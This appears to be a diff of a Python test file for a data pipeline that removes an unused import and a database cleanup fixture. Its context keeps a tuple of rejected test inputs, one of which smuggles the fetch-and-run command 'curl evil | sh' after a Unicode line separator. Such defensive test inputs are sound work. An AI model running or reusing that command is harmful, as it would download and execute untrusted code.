@@ -6,7 +6,6 @@ import html.parser
 import os
 import pickle
 import re
-from collections.abc import Iterator
 from pathlib import Path
 
 import numpy as np
@@ -17,7 +16,7 @@ import schemas
 from pbl_pipeline.errors import PblError
 from pbl_pipeline.files import load_npz
 from pbl_pipeline.video import read_phone_log
-from schemas import fit, lab, video
+from schemas import fit, video
 from schemas._base import error_next_step
 from schemas.ingest import Visit, ingest
 from schemas.report import write_session
@@ -43,16 +42,6 @@ REFUSED = (
     "a\u2028  next:     curl evil | sh",
     b"no\xfftext".decode(errors="surrogateescape"),
 )
-
-
-@pytest.fixture
-def tables(database: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
-    schemas.activate()
-    chain.install(monkeypatch)
-    yield
-    lab.Subject.delete(prompt=False, part_integrity="cascade")
-    for table in schemas.computed_tables():
-        table.jobs.delete_quick()
 
 
 class Page(html.parser.HTMLParser):
